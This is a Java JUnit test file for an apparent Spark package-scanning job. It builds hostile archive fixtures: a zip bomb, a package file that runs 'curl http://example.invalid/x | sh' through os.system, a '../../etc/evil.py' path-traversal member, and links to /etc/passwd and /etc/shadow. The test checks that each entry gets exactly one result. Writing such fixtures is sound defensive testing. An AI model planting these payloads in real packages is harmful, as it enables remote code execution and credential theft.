package dev.kingsnake.spark;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.kingsnake.internal.archive.TestArchives;
import dev.kingsnake.internal.archive.TestArchives.Member;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile and broken archives, made here, through the job: every manifest entry gets exactly one result,
 * no task fails, each readable file's result equals the CLI's, and what cannot be opened (a missing file,
 * a directory, an unknown filesystem) is an ERROR result with an IO_ERROR diagnostic.
 */
class HostileArchiveJobTest {
    private static final String SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n";

    @TempDir
    Path dir;

    @Test
    void everyEntryGetsOneResultAndReadableOnesMatchTheCli() throws Exception {
        Map<String, byte[]> archives = new LinkedHashMap<>();
        archives.put("bomb-1.0.zip", TestArchives.overlappingBomb(200, 1 << 20));
        byte[] sdist = TestArchives.gzip(TestArchives.tar(List.of(Member.file("demo-1.0/setup.py", SETUP),
                Member.file("demo-1.0/demo/__init__.py", "import os\nos.system('curl http://example.invalid/x | sh')\n"))));
        archives.put("truncated-1.0.tar.gz", Arrays.copyOf(sdist, sdist.length / 2));
        byte[] noise = new byte[50_000];
        new Random(20).nextBytes(noise);
        archives.put("noise-1.0-py3-none-any.whl", noise);
        archives.put("traversal-1.0.tar.gz", TestArchives.gzip(TestArchives.tar(List.of(
                Member.file("traversal-1.0/setup.py", SETUP), Member.file("../../etc/evil.py", "print('x')\n")))));
        archives.put("links-1.0.tar.gz", TestArchives.gzip(TestArchives.tar(List.of(
                Member.file("links-1.0/setup.py", SETUP), Member.symlink("links-1.0/passwd", "/etc/passwd"),
                Member.hardlink("links-1.0/shadow", "/etc/shadow")))));
        archives.put("nested-1.0.zip", TestArchives.zip(List.of(Member.file("inner.tar.gz", sdist))));
        archives.put("empty-1.0.tar.gz", new byte[0]);
        archives.put("brackets.py", ("x = " + "(".repeat(20_000)).getBytes());
        List<Path> files = new ArrayList<>();
        for (Map.Entry<String, byte[]> a : archives.entrySet()) {
            files.add(Files.write(dir.resolve(a.getKey()), a.getValue()));
        }
        Path folder = Files.createDirectory(dir.resolve("a-directory"));
        List<String> unopenable = List.of(dir.resolve("missing-1.0.tar.gz").toString(), folder.toString(),
                "nosuchscheme://example.invalid/pkg-1.0.tar.gz");

        StringBuilder csv = new StringBuilder("location,size,sha256\n");
        files.forEach(f -> csv.append(f).append(",,\n"));
        unopenable.forEach(u -> csv.append(u).append(",,\n"));
        Path manifest = Files.writeString(dir.resolve("manifest.csv"), csv);
        Path output = dir.resolve("out");

        RunSummary summary = LocalSpark.job("--manifest", manifest.toString(),
                "--output", output.toString(), "--format", "jsonl");

        int listed = files.size() + unopenable.size();
        assertEquals(listed, summary.listed());
        assertEquals(listed, summary.scanned());
        Map<String, ObjectNode> job = LocalSpark.jobResults(output, ScanJob.OutputFormat.JSONL);
        assertEquals(listed, job.size());
        Map<String, ObjectNode> cli = LocalSpark.cli(files, dir.resolve("cli.jsonl")).results();
        for (Path f : files) {
            assertEquals(cli.get(f.toString()), LocalSpark.withoutJobFields(job.get(f.toString())), f.toString());
        }
        for (String u : unopenable) {
            ObjectNode r = job.get(u);
            assertEquals("ERROR", r.get("verdict").asText(), u);
            assertEquals("IO_ERROR", r.get("diagnostics").get(0).get("code").asText(), u);
            assertEquals("", r.get("sha256").asText(), "no digest for what was not read: " + u);
        }
        assertTrue(Files.isRegularFile(output.resolve(ScanJob.SUMMARY)));
    }

    @Test
    void aNewRulesVersionRescansAndADigestInTheManifestSkipsWithoutReading() throws Exception {
        Path a = Files.write(dir.resolve("a-1.0.tar.gz"), TestArchives.gzip(TestArchives.tar(List.of(
                Member.file("a-1.0/setup.py", SETUP)))));
        Path b = Files.write(dir.resolve("b-1.0.tar.gz"), TestArchives.gzip(TestArchives.tar(List.of(
                Member.file("b-1.0/setup.py", SETUP.replace("demo", "other"))))));
        Path manifest = dir.resolve("manifest.parquet");
        Path output = dir.resolve("out");
        List<String> shas = new ArrayList<>();
        for (Path p : List.of(a, b)) {
            shas.add(java.util.HexFormat.of().formatHex(
                    java.security.MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(p))));
        }
        var spark = LocalSpark.session();
        spark.createDataFrame(List.of(
                        org.apache.spark.sql.RowFactory.create(a.toString(), Files.size(a), shas.get(0)),
                        org.apache.spark.sql.RowFactory.create(b.toString(), Files.size(b), shas.get(1))),
                new org.apache.spark.sql.types.StructType()
                        .add("location", "string").add("size", "long").add("sha256", "string"))
                .coalesce(1).write().parquet(manifest.toString());

        RunSummary first = LocalSpark.job("--manifest", manifest.toString(), "--output", output.toString());
        assertEquals(2, first.scanned());
        RunSummary stricter = LocalSpark.job("--manifest", manifest.toString(), "--output", output.toString(),
                "--threshold", "6");
        assertEquals(2, stricter.scanned(), "another threshold is another rules version: everything again");
        Files.delete(a);
        Files.delete(b);
        RunSummary again = LocalSpark.job("--manifest", manifest.toString(), "--output", output.toString());
        assertEquals(0, again.scanned(), "the manifest's digests are enough to skip; the files are gone");
        assertEquals(2, again.skipped());

        Set<String> versions = spark.read().parquet(output.resolve(ScanJob.RESULTS).toString())
                .select("rulesVersion").distinct().as(org.apache.spark.sql.Encoders.STRING()).collectAsList()
                .stream().collect(Collectors.toSet());
        assertEquals(Set.of(first.rulesVersion(), stricter.rulesVersion()), versions);
    }
}
